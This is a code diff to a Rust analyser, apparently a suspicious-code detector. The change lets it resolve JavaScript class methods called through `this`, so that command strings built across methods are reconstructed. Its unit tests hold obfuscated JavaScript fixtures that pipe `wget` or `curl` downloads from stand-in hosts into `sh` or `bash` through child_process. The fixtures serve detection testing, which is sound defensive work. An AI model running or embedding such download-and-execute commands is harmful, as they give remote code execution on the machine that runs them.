@@ -15,6 +15,7 @@ use super::super::values::Value;
 use super::super::Env;
 use super::Walker;
 use crate::fields::FieldChild;
+use std::borrow::Cow;
 use tree_sitter::Node;
 
 /// The helper `function` (a declaration, arrow or function expression) is, if it is declared at the top
@@ -29,6 +30,64 @@ pub(super) fn helper<'t>(function: Node<'t>, text: &'t str) -> Option<Helper<'t>
         .collect();
     let body = function.field_child("body")?;
     is_top_level(function).then_some(Helper { body, parameters })
+}
+
+/// A class's plain method (`cmd() { return … }`: not static, async, a getter or a generator), under the
+/// name `this.cmd()` finds it by in that class's other methods (see [`this_method_key`]).
+pub(super) fn method_helper<'t>(method: Node<'t>, text: &'t str) -> Option<(String, Helper<'t>)> {
+    let class_body = method.parent().filter(|p| p.kind() == "class_body")?;
+    let name = method.field_child("name")?;
+    // Modifiers (`static`, `async`, `get`, `*`) come before the name.
+    if name.kind() != "property_identifier" || method.child(0)?.id() != name.id() {
+        return None;
+    }
+    let parameters = plain_parameters(method)?
+        .into_iter()
+        .map(|p| {
+            let name = p.field_child("pattern").unwrap_or(p);
+            name.utf8_text(text.as_bytes()).unwrap_or("")
+        })
+        .collect();
+    let key = method_key(name.utf8_text(text.as_bytes()).ok()?, class_body);
+    let body = method.field_child("body")?;
+    Some((key, Helper { body, parameters }))
+}
+
+/// `this.name` inside a method of a class (through arrows, which keep `this`; not through a nested
+/// `function`, which has its own): the key [`method_helper`] records that class's method `name` under.
+pub(super) fn this_method_key(member: Node, text: &str) -> Option<String> {
+    if member.kind() != "member_expression" || member.field_child("object")?.kind() != "this" {
+        return None;
+    }
+    let property = member.field_child("property")?;
+    if property.kind() != "property_identifier" {
+        return None;
+    }
+    let mut at = member.parent();
+    while let Some(parent) = at {
+        match parent.kind() {
+            "method_definition" => {
+                let class_body = parent.parent().filter(|p| p.kind() == "class_body")?;
+                return Some(method_key(
+                    property.utf8_text(text.as_bytes()).ok()?,
+                    class_body,
+                ));
+            }
+            "function_declaration"
+            | "function_expression"
+            | "function"
+            | "generator_function"
+            | "generator_function_declaration"
+            | "program" => return None,
+            _ => at = parent.parent(),
+        }
+    }
+    None
+}
+
+/// A key no identifier can spell, so a class's methods never meet the module's names.
+fn method_key(name: &str, class_body: Node) -> String {
+    format!("this.{name}#{}", class_body.id())
 }
 
 /// A function's parameters when each is a plain name (`(a, b)`, or an arrow's bare `s`).
@@ -79,6 +138,13 @@ impl<'t> HelperCalls<'t> for Walker<'t, '_> {
 
     fn source(&self, node: Node<'t>) -> &'t str {
         self.src(node)
+    }
+
+    fn helper_name(&self, function: Node<'t>) -> Option<Cow<'t, str>> {
+        match function.kind() {
+            "identifier" => Some(Cow::Borrowed(self.src(function))),
+            _ => this_method_key(function, self.text).map(Cow::Owned),
+        }
     }
 
     fn value_of(&mut self, node: Node<'t>, depth: usize) -> Option<Value> {
@@ -177,6 +243,38 @@ mod tests {
                 .any(|r| r.contains("exec(\"curl -s http://198.51.100.23/c.sh | bash\"")),
             "{found:?}"
         );
+    }
+
+    #[test]
+    fn a_class_method_returning_a_command_is_read_where_another_method_runs_it() {
+        let found = javascript(concat!(
+            "class Job {\n",
+            "  site() { return ['198', '51', '100', '77'].join('.'); }\n",
+            "  line() { return `wget -qO- http://${this.site()}/j | sh`; }\n",
+            "  lib() { return 'child' + '_process'; }\n",
+            "  go() { const m = require(this.lib()); m.exec(this.line()); }\n",
+            "}\n",
+            "new Job().go();\n",
+        ));
+        assert!(
+            found
+                .iter()
+                .any(|r| r.contains("exec(\"wget -qO- http://198.51.100.77/j | sh\")")),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn methods_replaced_static_or_called_through_another_this_stay_unknown() {
+        for text in [
+            "const cp = require('child_process');\nclass A { cmd() { return 'curl -s https://a.invalid | sh'; } constructor() { this.cmd = load; } go() { cp.exec(this.cmd()); } }\n",
+            "const cp = require('child_process');\nclass A { static cmd() { return 'curl -s https://a.invalid | sh'; } go() { cp.exec(this.cmd()); } }\n",
+            "const cp = require('child_process');\nclass A { cmd() { return 'curl -s https://a.invalid | sh'; } go() { setup(function () { cp.exec(this.cmd()); }); } }\n",
+            "const cp = require('child_process');\nclass A { cmd() { return 'curl -s https://a.invalid | sh'; } }\nclass B { go() { cp.exec(this.cmd()); } }\n",
+        ] {
+            let found = javascript(text);
+            assert!(!found.iter().any(|r| r.contains("curl")), "{text}: {found:?}");
+        }
     }
 
     #[test]
